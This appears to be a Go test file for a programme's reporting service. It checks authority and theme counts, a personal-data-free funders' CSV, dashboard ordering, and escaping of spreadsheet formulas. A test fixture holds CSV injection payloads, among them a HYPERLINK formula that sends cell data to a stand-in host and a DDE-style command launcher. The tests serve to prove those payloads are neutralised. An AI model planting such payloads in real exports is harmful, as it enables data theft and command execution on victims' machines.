package reports_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"errors"
	"fmt"
	"maps"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/google/uuid"

	"github.com/infuse-cymru/journeys/dev/testdeps"
	"github.com/infuse-cymru/journeys/internal/app/apperr"
	"github.com/infuse-cymru/journeys/internal/app/apptest"
	"github.com/infuse-cymru/journeys/internal/app/reports"
	"github.com/infuse-cymru/journeys/internal/app/views"
	"github.com/infuse-cymru/journeys/internal/programme"
	"github.com/infuse-cymru/journeys/internal/store"
	"github.com/infuse-cymru/journeys/internal/store/sqlitestore"
	"github.com/infuse-cymru/journeys/workflows/contract"
)

func TestByAuthorityListsAllTen(t *testing.T) {
	ctx := context.Background()
	st := sqlitestore.OpenTest(t)
	s := reports.New(st)
	c := apptest.NewCohort(t, st, "Cohort 1")
	c.ThreeJourneys(t)
	// Another intake's journey counts across intakes, not in Cohort 1's.
	other := apptest.NewCohort(t, st, "Cohort 2")
	other.Record(t, uuid.New(), other.Participant(t, "Priya", "Sharma", "Cardiff", "communities"), "application.submitted", "", "submitted", "")

	r, err := s.ByAuthority(ctx, c.Intake.ID)
	if err != nil {
		t.Fatal(err)
	}
	var names []string
	for _, g := range r.Groups {
		names = append(names, g.Name)
	}
	if !slices.Equal(names, programme.LocalAuthorities) {
		t.Fatalf("groups %q, want the ten authorities in order", names)
	}
	got := map[string]reports.GroupCounts{}
	for _, g := range r.Groups {
		got[g.Name] = g
	}
	cardiff := got["Cardiff"]
	if cardiff.Journeys != 2 || cardiff.ByState["completed"] != 1 || cardiff.ByState["withdrawn"] != 1 ||
		cardiff.ByOutcome["completed"] != 1 || cardiff.ByOutcome["withdrawn"] != 1 {
		t.Errorf("Cardiff = %+v", cardiff)
	}
	newport := got["Newport"]
	if newport.Journeys != 1 || newport.ByState["in_labs"] != 1 || len(newport.ByOutcome) != 0 {
		t.Errorf("Newport = %+v", newport)
	}
	if b := got["Bridgend"]; b.Journeys != 0 || b.ByState == nil || b.ByOutcome == nil {
		t.Errorf("Bridgend = %+v, want zero counts with empty maps", b)
	}

	all, err := s.ByAuthority(ctx, uuid.Nil)
	if err != nil {
		t.Fatal(err)
	}
	if len(all.Groups) != 10 || all.Groups[3].Name != "Cardiff" || all.Groups[3].Journeys != 3 || all.Groups[3].ByState["submitted"] != 1 {
		t.Errorf("across intakes, Cardiff = %+v", all.Groups[3])
	}

	themes, err := s.ByTheme(ctx, c.Intake.ID)
	if err != nil {
		t.Fatal(err)
	}
	if len(themes.Groups) != 2 || themes.Groups[0].Name != "decarbonisation" || themes.Groups[0].Journeys != 2 ||
		themes.Groups[1].Journeys != 1 {
		t.Errorf("themes = %+v", themes.Groups)
	}
	if _, err := s.ByTheme(ctx, uuid.New()); !errors.Is(err, apperr.ErrNotFound) {
		t.Errorf("unknown intake: %v, want apperr.ErrNotFound", err)
	}
}

// outcomesCSV is the intake's outcomes file, as rows and as written.
func outcomesCSV(t *testing.T, s *reports.Service, intakeID uuid.UUID) ([][]string, *bytes.Buffer) {
	t.Helper()
	var b bytes.Buffer
	if err := s.WriteOutcomesCSV(context.Background(), intakeID, &b); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(bytes.NewReader(b.Bytes())).ReadAll()
	if err != nil {
		t.Fatalf("not CSV: %v\n%s", err, b.String())
	}
	return rows, &b
}

func TestOutcomesCSVNamesNobody(t *testing.T) {
	st := sqlitestore.OpenTest(t)
	s := reports.New(st)
	c := apptest.NewCohort(t, st, "Cohort 1")
	people, journeys := c.ThreeJourneys(t)

	rows, b := outcomesCSV(t, s, c.Intake.ID)
	if len(rows) != 1+len(journeys) || !slices.Equal(rows[0], reports.OutcomesCSVColumns) {
		t.Fatalf("want a header and %d rows:\n%s", len(journeys), b.String())
	}
	byJourney := map[string]map[string]string{}
	for _, row := range rows[1:] {
		m := map[string]string{}
		for i, col := range rows[0] {
			m[col] = row[i]
		}
		byJourney[m["journey_id"]] = m
	}
	done := byJourney[journeys[0].String()]
	if done["intake"] != "Cohort 1" || done["local_authority"] != "Cardiff" || done["theme"] != "decarbonisation" ||
		done["state"] != "completed" || done["outcome"] != "completed" || done["sessions_attended"] != "2" ||
		done["checkpoints_completed"] != "1" || done["ended_at"] != "2021-10-01T16:00:00Z" {
		t.Errorf("completed journey's row = %v", done)
	}
	if running := byJourney[journeys[2].String()]; running["outcome"] != "" || running["ended_at"] != "" || running["sessions_attended"] != "0" {
		t.Errorf("running journey's row = %v", running)
	}
	for _, p := range append(people, c.Coach, c.Coordinator) {
		for _, personal := range []string{p.GivenName, p.FamilyName, p.EmailAddress, "@"} {
			if strings.Contains(b.String(), personal) {
				t.Errorf("the funders' CSV contains %q:\n%s", personal, b.String())
			}
		}
	}
}

// formulaStart is what makes a spreadsheet read a CSV cell as a formula
// (OWASP's CSV injection list): =, +, -, @, a tab or a carriage return
// first.
const formulaStart = "=+-@\t\r"

// A funder opening the outcomes file in a spreadsheet runs nothing: a
// cell of recorded text that a spreadsheet would take for a formula is
// written with a leading apostrophe, which spreadsheets read as "text"
// and do not show, and every other cell as it was recorded.
// hostileOutcomes is an intake whose name, and whose participants' local
// authorities and themes, a spreadsheet would run as formulas if written
// raw: the outcomes file's rows, and the text recorded for each journey
// (intake name, local authority, theme).
func hostileOutcomes(t *testing.T) (rows [][]string, csvFile []byte, recorded map[string][3]string) {
	t.Helper()
	st := sqlitestore.OpenTest(t)
	s := reports.New(st)
	name := `=HYPERLINK("http://evil.example/?"&A1,"Cohort 1")`
	c := apptest.NewCohort(t, st, name)
	recorded = map[string][3]string{}
	for i, cell := range [][2]string{
		{"+cmd|' /C calc'!A0", "@SUM(1+1)"},
		{"-2+3", "=1+1"},
		{"@A1", "decarbonisation"},
		{"Cardiff", "communities"},
	} {
		j := uuid.New()
		c.Record(t, j, c.Participant(t, fmt.Sprintf("Person%d", i), "Jones", cell[0], cell[1]), "phase.started", "", "in_labs", "")
		recorded[j.String()] = [3]string{name, cell[0], cell[1]}
	}
	rows, b := outcomesCSV(t, s, c.Intake.ID)
	if len(rows) != 1+len(recorded) {
		t.Fatalf("want a header and %d rows:\n%s", len(recorded), b.String())
	}
	return rows, b.Bytes(), recorded
}

func TestOutcomesCSVNeutralisesFormulas(t *testing.T) {
	rows, _, recorded := hostileOutcomes(t)
	for _, row := range rows[1:] {
		for i, w := range recorded[row[0]] {
			cell := row[2+i]
			if cell != "" && strings.ContainsRune(formulaStart, rune(cell[0])) {
				t.Errorf("column %s of journey %s is %q: a spreadsheet runs it as a formula", rows[0][2+i], row[0], cell)
			}
			shown := cell
			if strings.ContainsRune(formulaStart, rune(w[0])) {
				shown = strings.TrimPrefix(cell, "'")
			}
			if shown != w {
				t.Errorf("column %s of journey %s reads %q as text, want %q", rows[0][2+i], row[0], shown, w)
			}
		}
	}
}

// TestOutcomesCSVInASpreadsheet: a real spreadsheet (Gnumeric, which
// scripts/test installs) opens the funders' file and shows each cell as
// the text recorded, running nothing: written raw, =1+1 would show 2 and
// the HYPERLINK its label.
func TestOutcomesCSVInASpreadsheet(t *testing.T) {
	ssconvert := testdeps.Command(t, "ssconvert", "apt-get install -y --no-install-recommends gnumeric")
	rows, file, recorded := hostileOutcomes(t)
	dir := t.TempDir()
	in, out := filepath.Join(dir, "outcomes.csv"), filepath.Join(dir, "as-shown.csv")
	if err := os.WriteFile(in, file, 0o600); err != nil {
		t.Fatal(err)
	}
	// Comma-separated, as a spreadsheet opens a .csv (its guessing importer
	// would split at apostrophes).
	cmd := exec.Command(ssconvert, "--import-type=Gnumeric_stf:stf_csvtab", "--export-type=Gnumeric_stf:stf_csv", in, out)
	cmd.Env = append(os.Environ(), "HOME="+dir) // Gnumeric keeps settings there
	if msg, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("ssconvert: %v\n%s", err, msg)
	}
	b, err := os.ReadFile(out)
	if err != nil {
		t.Fatal(err)
	}
	shown, err := csv.NewReader(bytes.NewReader(b)).ReadAll()
	if err != nil || len(shown) != len(rows) {
		t.Fatalf("Gnumeric's reading of the file: %v, %d rows, want %d\n%s", err, len(shown), len(rows), b)
	}
	for _, row := range shown[1:] {
		want, ok := recorded[row[0]]
		if !ok {
			t.Fatalf("Gnumeric shows a journey %q that is not in the file\n%s", row[0], b)
		}
		for i, w := range want {
			if row[2+i] != w {
				t.Errorf("a spreadsheet shows column %s of journey %s as %q, want the text %q", shown[0][2+i], row[0], row[2+i], w)
			}
		}
	}
}

// The dashboard lists its rows by name, namesakes in the order of their
// journeys' IDs, then the erased and people the store no longer has, and
// counts everyone; the funders' file lists journeys in the order of their
// IDs whatever order they were recorded in.
func TestDashboardOrderAndCounts(t *testing.T) {
	ctx := context.Background()
	st := sqlitestore.OpenTest(t)
	s := reports.New(st)
	c := apptest.NewCohort(t, st, "Cohort 1")
	zed, ann := c.Participant(t, "Zed", "Morgan", "Cardiff", "communities"), c.Participant(t, "Ann", "Jones", "Newport", "communities")
	erased := c.Participant(t, "Bryn", "Hughes", "Torfaen", "communities")
	ann2 := store.Person{ID: uuid.New(), Role: store.RoleParticipant, GivenName: "Ann", FamilyName: "Jones",
		EmailAddress: "ann.jones2@example.org", LocalAuthority: "Newport", Theme: "decarbonisation"}
	if err := st.CreatePeople(ctx, []store.Person{ann2}); err != nil {
		t.Fatal(err)
	}
	gone := store.Person{ID: uuid.New()} // never stored
	// Journey IDs made in descending order, so that recording order,
	// ID order and name order all differ.
	ids := make([]uuid.UUID, 5)
	for i := range ids {
		ids[i] = uuid.New()
	}
	slices.SortFunc(ids, func(a, b uuid.UUID) int { return -bytes.Compare(a[:], b[:]) })
	recorded := []struct {
		person store.Person
		state  string
	}{{zed, "in_labs"}, {ann, "in_labs"}, {ann2, "withdrawn"}, {erased, "in_labs"}, {gone, "submitted"}}
	for i, r := range recorded {
		c.Record(t, ids[i], r.person, "phase.started", "", contract.Status(r.state), "")
	}
	if _, err := st.ErasePerson(ctx, erased.ID, time.Now()); err != nil {
		t.Fatal(err)
	}

	d, err := views.New(nil, st).IntakeDashboard(ctx, c.Intake.ID, views.DashboardPage{})
	if err != nil {
		t.Fatal(err)
	}
	// Later IDs are smaller: namesakes go in the order of their IDs; the
	// erased and the gone, after everyone named, likewise.
	want := []struct {
		name string
		id   uuid.UUID
	}{{"Ann Jones", ids[2]}, {"Ann Jones", ids[1]}, {"Zed Morgan", ids[0]}, {views.ErasedName, ids[4]}, {views.ErasedName, ids[3]}}
	if len(d.Rows) != len(want) {
		t.Fatalf("the dashboard has %d rows, want %d: %+v", len(d.Rows), len(want), d.Rows)
	}
	for i, w := range want {
		if r := d.Rows[i]; r.Name != w.name || r.JourneyID != w.id || r.CoachName != "Elin Rowlands" {
			t.Errorf("row %d is %s (%s, coach %q), want %s (%s)", i, r.Name, r.JourneyID, r.CoachName, w.name, w.id)
		}
	}
	if w := map[string]int{"in_labs": 3, "withdrawn": 1, "submitted": 1}; !maps.Equal(d.Counts, w) {
		t.Errorf("counts by state %v, want %v", d.Counts, w)
	}
	if w := map[string]int{"Cardiff": 1, "Newport": 2, "Torfaen": 1, "": 1}; !maps.Equal(d.ByLocalAuthority, w) {
		t.Errorf("counts by authority %v, want %v (the erased keep theirs, the gone have none)", d.ByLocalAuthority, w)
	}

	rows, b := outcomesCSV(t, s, c.Intake.ID)
	if len(rows) != 1+len(ids) {
		t.Fatalf("want a header and %d rows:\n%s", len(ids), b.String())
	}
	for i, row := range rows[1:] {
		if want := ids[len(ids)-1-i].String(); row[0] != want {
			t.Errorf("CSV row %d is journey %s, want %s (journeys in the order of their IDs)", i+1, row[0], want)
		}
	}
}
